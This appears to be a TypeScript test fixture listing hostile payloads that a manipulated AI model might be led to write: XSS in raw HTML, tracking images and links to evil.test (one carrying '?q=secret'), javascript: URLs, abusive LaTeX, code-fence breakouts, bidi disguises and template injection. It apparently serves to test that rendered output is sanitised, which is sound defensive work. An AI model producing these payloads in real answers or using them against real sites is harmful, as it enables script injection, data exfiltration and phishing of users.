/** What a model may be made to write by a document that wants something of its reader (S16). Each asks evil.test for
 *  something, runs something, leads elsewhere than it says, or breaks out of the answer, where it is not shown as text. */
const FOREIGN = "https://evil.test";

const RAW_HTML = [
  `<img src=${FOREIGN}/img onerror=alert(1)>`,
  `<IMG SRC="${FOREIGN}/upper" ONLOAD="alert(1)">`,
  `<img src=x onerror="fetch('${FOREIGN}/fetch')">`,
  `<img srcset="${FOREIGN}/srcset 1x" src="">`,
  `<picture><source srcset="${FOREIGN}/picture"><img></picture>`,
  `<script>alert(1)</script>`,
  `<script src="${FOREIGN}/script.js"></script>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<style>body{display:none}@import url(${FOREIGN}/style.css)</style>`,
  `<link rel=stylesheet href=${FOREIGN}/link.css><link rel=prefetch href=${FOREIGN}/prefetch>`,
  `<iframe src="${FOREIGN}/iframe" srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="${FOREIGN}/object"></object><embed src="${FOREIGN}/embed">`,
  `<video src="${FOREIGN}/video" poster="${FOREIGN}/poster" autoplay></video><audio src="${FOREIGN}/audio" autoplay></audio>`,
  `<svg onload=alert(1)><image href="${FOREIGN}/svg-image"/><use href="${FOREIGN}/use#x"/></svg>`,
  `<svg><script>alert(1)</script><style>@import '${FOREIGN}/svg-style'</style><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<details open ontoggle=alert(1)><summary>more</summary></details>`,
  `<input autofocus onfocus=alert(1)><button formaction="${FOREIGN}/form">go</button>`,
  `<form action="${FOREIGN}/action"><input name=password type=password><button>Sign in</button></form>`,
  `<meta http-equiv=refresh content="0;url=${FOREIGN}/refresh"><base href="${FOREIGN}/base/">`,
  `<div style="position:fixed;inset:0;background:url(${FOREIGN}/background)">Your session has ended</div>`,
  `<a href="javascript:alert(1)">raw link</a><a href="${FOREIGN}/ping" ping="${FOREIGN}/ping">ping</a>`,
  `<body onload=alert(1) background="${FOREIGN}/body">`,
  `<template><img src=${FOREIGN}/template></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
  `<?xml-stylesheet href="${FOREIGN}/xml.css"?>`,
  `</div></article></main><h1>Nexus</h1><img src=x onerror=alert(1)>`,
  `<div><img src=x\nonerror=alert(1)\n></div>`,
  `<p>\u0000<img src=x onerror=alert(1)></p>`,
];

const IMAGES = [
  `![tracker](${FOREIGN}/image.png?q=secret)`,
  `![tracker](//evil.test/protocol-relative.png)`,
  `![by reference][picture]\n\n[picture]: ${FOREIGN}/reference.png "title"`,
  `[![linked](${FOREIGN}/linked.png)](${FOREIGN}/target)`,
  `![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)`,
  `![x](${FOREIGN}/title.png "onerror=alert(1)")`,
  `![a](blob:${FOREIGN}/blob) ![b](filesystem:${FOREIGN}/fs) ![c](file:///etc/passwd)`,
  `| ![in a table](${FOREIGN}/table.png) | x |\n|---|---|\n| ![y](${FOREIGN}/cell.png) | z |`,
  `> ![quoted](${FOREIGN}/quote.png)\n\n- ![in a list](${FOREIGN}/list.png)`,
];

const LINKS = [
  `[click](javascript:alert(1))`,
  `[click](JaVaScRiPt:alert%281%29)`,
  `[click](java\tscript:alert(1)) [click](java&#x0A;script:alert(1))`,
  `[click](&#106;avascript:alert(1)) [click](javascript&colon;alert(1))`,
  `[click](<javascript:alert(1)>) [click]( \u0001javascript:alert(1))`,
  `[data](data:text/html,<script>alert(1)</script>) [vbscript](vbscript:msgbox(1))`,
  `[by reference][code]\n\n[code]: javascript:alert(1)`,
  `<javascript:alert(1)> <data:text/html,x>`,
  `[a page of ours](/admin) [relative](admin/users) [query](?c=1) [fragment](#content) [protocol](//evil.test/relative)`,
  `[looks right](https://login.microsoftonline.com@evil.test/) https://example.test/page www.evil.test`,
  `[newline](https://evil.test/\n) [quote](https://evil.test/"onmouseover="alert(1))`,
  `[![x](x "y)](javascript:alert(1))`,
  `[^note]\n\n[^note]: <img src=x onerror=alert(1)> [f](javascript:alert(1))`,
];

const FORMULAS = [
  `$$\\href{javascript:alert(1)}{x}$$`,
  `$$\\url{javascript:alert(1)} \\includegraphics{${FOREIGN}/formula.png}$$`,
  `$$\\htmlStyle{background:url(${FOREIGN}/html-style)}{x} \\htmlData{a=b}{y} \\htmlId{content}{z} \\htmlClass{fixed}{w}$$`,
  `$$\\text{<img src=x onerror=alert(1)>}$$`,
  `$$\\def\\a{\\a\\a}\\a$$`,
  `$$\\pmb{x} \\fcolorbox{red}{url(${FOREIGN}/colour)}{y} \\color{url(${FOREIGN}/colour)} z$$`,
  `$$\\fcolorbox{red}{blue}{y} \\color{red} z$$`,
  `$$\\rule{99999em}{99999em}$$`,
  `\\[ \\unicode{x3c}script\\unicode{x3e} \\]`,
];

const CODE = [
  "```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```",
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  "```js onload=alert(1)\nfetch('https://evil.test/code')\n```",
  '~~~mermaid\ngraph LR; A-->B; click A href "javascript:alert(1)"\n~~~',
  "`<img src=x onerror=alert(1)>`",
  "    <script>alert(1)</script>",
];

const DISGUISES = [
  `[1] [999] [-1] [0] [1e3] [<img src=x onerror=alert(1)>]`,
  `\n\nSources:\n[1] <img src=${FOREIGN}/sources onerror=alert(1)>\n`,
  `\u202Egnp.exe\u202C \u2066hidden\u2069 \uFEFF`,
  `- [x] <input type=checkbox onclick=alert(1)>\n- [ ] ![t](${FOREIGN}/task.png)`,
  `Term\n: <img src=x onerror=alert(1)>\n\n{{constructor.constructor('alert(1)')()}} \${alert(1)} <%= alert(1) %>`,
  `# <img src=x onerror=alert(1)> {#content onload=alert(1)}\n\nTitle\n=====\n\n***\n\n__proto__ constructor`,
];

export const HOSTILE: Record<string, string[]> = { RAW_HTML, IMAGES, LINKS, FORMULAS, CODE, DISGUISES };
